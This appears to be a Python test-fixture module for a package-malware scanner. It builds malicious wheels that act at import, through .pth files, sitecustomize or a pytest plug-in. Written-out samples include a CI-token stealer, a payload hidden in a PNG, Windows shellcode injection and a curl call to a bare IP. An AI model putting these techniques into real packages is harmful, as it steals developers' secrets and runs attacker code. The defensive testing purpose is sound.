"""Campaigns that act when Python starts, a package is imported, or a tool loads a plug-in."""
# ruff: noqa: E501 - the lines of other people's code are as long as they are

import base64

from tests.campaigns.disguises import DISGUISES
from tests.campaigns.forge import Built, Shapes, ordinary, wheel
from tests.campaigns.payloads import (
    BEACON,
    CLIPBOARD,
    FETCHERS,
    SENDERS,
    SHELL,
    STEALER,
    dropper,
    fetch_and_run,
    secrets,
)

__all__ = ["AT_START"]

AT_START = Shapes()
MODULE = '"""A small library."""\n\n__version__ = "1.2.0"\n'


def imported(name: str, payload: str, *, proxy: bool = False) -> Built:
    """A wheel whose ``__init__`` acts, itself or by a module that it imports."""
    if proxy:
        return wheel(name, {f"{name}/__init__.py": MODULE + "from . import _runtime\n", f"{name}/_runtime.py": payload})
    return wheel(
        name, {f"{name}/__init__.py": MODULE + payload, f"{name}/api.py": "def get(value):\n    return value\n"}
    )


for library in SENDERS:
    AT_START.add(
        f"import-secrets-{library}",
        f"A module that __init__ imports reads secrets and sends them by {library}",
        lambda library=library: imported("tinyorm2", secrets(library), proxy=True),
    )
for library in FETCHERS:
    AT_START.add(
        f"import-fetches-{library}",
        f"__init__ runs the text that it fetches by {library}",
        lambda library=library: imported("colorfy2", fetch_and_run(library)),
    )
    AT_START.add(
        f"import-drops-{library}",
        f"A module that __init__ imports fetches a program by {library} and starts it unseen",
        lambda library=library: imported("gpuinfo", dropper(library), proxy=True),
    )
PADDING = {
    "data": "250 small tables",
    "copies": "300 copies of an honest module",
    "modules": "300 modules of an honest program, each a little different",
}


def padded(what: str) -> dict[str, str]:
    """Files that do nothing, beside those that do: where much is, something fires by chance."""
    (honest,) = ordinary("textwrap").values()
    return {
        "data": {f"asyncgrid/data/{number}.csv": f"number,square\n{number},{number**2}\n" for number in range(250)},
        "copies": {f"asyncgrid/part{number}.py": honest for number in range(300)},
        "modules": {f"asyncgrid/part{number}.py": f"PART = {number}\n{honest}" for number in range(300)},
    }[what]


for what, told in PADDING.items():
    AT_START.add(
        f"import-padded-{what}",
        f"__init__ swaps addresses in the clipboard, beside {told}",
        lambda what=what: wheel(
            "asyncgrid",
            {"asyncgrid/__init__.py": MODULE + CLIPBOARD, **padded(what)},
        ),
    )
for disguise in DISGUISES:
    AT_START.add(
        f"import-hides-{disguise}",
        f"__init__ hides the theft of secrets by {disguise}",
        lambda disguise=disguise: imported("asyncgrid", DISGUISES[disguise](secrets("urllib"))),
    )


@AT_START
def pth_spawns_interpreter() -> Built:
    """A .pth file starts another interpreter on encoded code; RECORD is right"""
    line = DISGUISES["spawned-interpreter"](secrets("urllib")).replace("\n", ";").replace(";                 ", "")
    return wheel("lmrouter", {"lmrouter/__init__.py": MODULE, "lmrouter_init.pth": line.strip(";") + "\n"})


@AT_START
def pth_imports_helper() -> Built:
    """A .pth file imports a module of another top level that fetches and runs"""
    return wheel(
        "elementdata",
        {
            "elementdata/__init__.py": MODULE,
            "elementdata.pth": "import _elementdata_boot\n",
            "_elementdata_boot.py": "import threading\n\n\ndef _go():\n"
            + "".join(f"    {line}\n" for line in fetch_and_run("urllib").splitlines())
            + "\n\nthreading.Thread(target=_go, daemon=True).start()\n",
        },
    )


@AT_START
def pth_exec_inline() -> Built:
    """A .pth file decodes and runs in one line"""
    return wheel("logshape", {"logshape/__init__.py": MODULE, "logshape.pth": _one_line(fetch_and_run("urllib"))})


@AT_START
def start_file_entry() -> Built:
    """A PEP 829 .start file names a function that sends secrets"""
    body = "".join(f"    {line}\n" for line in secrets("http-client").splitlines())
    return wheel(
        "modelhub2",
        {
            "modelhub2/__init__.py": MODULE,
            "modelhub2/boot.py": "def main():\n" + body,
            "modelhub2.start": "modelhub2.boot:main\n",
        },
    )


@AT_START
def sitecustomize_planted() -> Built:
    """A wheel puts a sitecustomize beside its package"""
    return wheel("netstat2", {"netstat2/__init__.py": MODULE, "sitecustomize.py": fetch_and_run("urllib3")})


@AT_START
def pytest_plugin_steals() -> Built:
    """A pytest plug-in reads the tokens of the CI that runs it"""
    return wheel(
        "pytest-tidy-output",
        {
            "pytest_tidy_output/__init__.py": MODULE,
            "pytest_tidy_output/plugin.py": """\
import json, os


def pytest_configure(config):
    wanted = ('GITHUB_TOKEN', 'AWS_SECRET_ACCESS_KEY', 'PYPI_TOKEN', 'NPM_TOKEN', 'OPENAI_API_KEY')
    data = json.dumps({k: v for k, v in os.environ.items() if k in wanted or 'TOKEN' in k})
"""
            + "".join(f"    {line}\n" for line in SENDERS["urllib"].splitlines()),
            "pytest_tidy_output-1.2.0.dist-info/entry_points.txt": "[pytest11]\ntidy = pytest_tidy_output.plugin\n",
        },
    )


@AT_START
def png_carries_payload() -> Built:
    """An import takes code out of a picture that the package ships"""
    return wheel(
        "chartlets",
        {
            "chartlets/__init__.py": MODULE + "from . import theme\n",
            "chartlets/theme.py": """\
import base64, pathlib, zlib
_raw = pathlib.Path(__file__).with_name('logo.png').read_bytes()
_tail = _raw[_raw.index(b'IEND') + 8:]
exec(zlib.decompress(base64.b64decode(_tail)))
""",
            "chartlets/logo.png": b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\1\0\0\0\1\x08\6\0\0\0\x1f\x15\xc4\x89\0\0\0\0IEND\xaeB`\x82"
            + b"aW5lcnQ=" * 200,
        },
    )


@AT_START
def clipboard_swapped() -> Built:
    """A thread replaces copied wallet addresses"""
    return imported("cliptools2", CLIPBOARD + "import threading\nthreading.Thread(target=watch, daemon=True).start()\n")


@AT_START
def browsers_robbed() -> Built:
    """An import collects browsers' logins and posts them"""
    return imported("webdrv_tools", STEALER + SENDERS["requests"], proxy=True)


@AT_START
def shell_at_import() -> Built:
    """An import opens a shell to a bare address in a thread"""
    body = "".join(f"    {line}\n" for line in SHELL.splitlines())
    return imported(
        "pymesh2", f"import threading\ndef _r():\n{body}\nthreading.Thread(target=_r, daemon=True).start()\n"
    )


@AT_START.limited("what a library does cannot be read, and honest wheels with a wrong tag look the same")
def native_module_only() -> Built:
    """A library for Linux in a wheel that promises none, loaded by ctypes at import"""
    return wheel(
        "solana_fast",
        {
            "solana_fast/__init__.py": MODULE
            + """\
import ctypes, pathlib
ctypes.CDLL(str(pathlib.Path(__file__).with_name('libcore.so'))).start()
""",
            "solana_fast/libcore.so": b"\x7fELF\x02\x01\x01"
            + b"\0" * 9
            + b"\x03\0>\0inert"
            + bytes(range(256)) * 40
            + b"/bin/sh -c curl http://203.0.113.5/x",
        },
    )


@AT_START
def injected_shellcode() -> Built:
    """An import writes decoded bytes into fresh memory and starts them"""
    return imported(
        "winperf",
        """\
import base64, ctypes
_k = ctypes.windll.kernel32
_b = base64.b64decode('aW5lcnQ=' )
_k.VirtualAlloc.restype = ctypes.c_void_p
_p = _k.VirtualAlloc(None, len(_b), 0x3000, 0x40)
_k.RtlMoveMemory(ctypes.c_void_p(_p), _b, len(_b))
_k.WaitForSingleObject(_k.CreateThread(None, 0, ctypes.c_void_p(_p), None, 0, None), -1)
""",
        proxy=True,
    )


@AT_START
def beacon_at_import() -> Built:
    """An import reports host and user; the rest of the package is ordinary code"""
    return wheel(
        "config_readers",
        {f"config_readers/{name}": text for name, text in ordinary("configparser", "shlex", "csv").items()}
        | {
            "config_readers/__init__.py": MODULE + "from . import _stats\n",
            "config_readers/_stats.py": BEACON + SENDERS["requests"],
        },
    )


def _one_line(code: str) -> str:
    return f"import base64; exec(base64.b64decode({base64.b64encode(code.encode()).decode()!r}))\n"
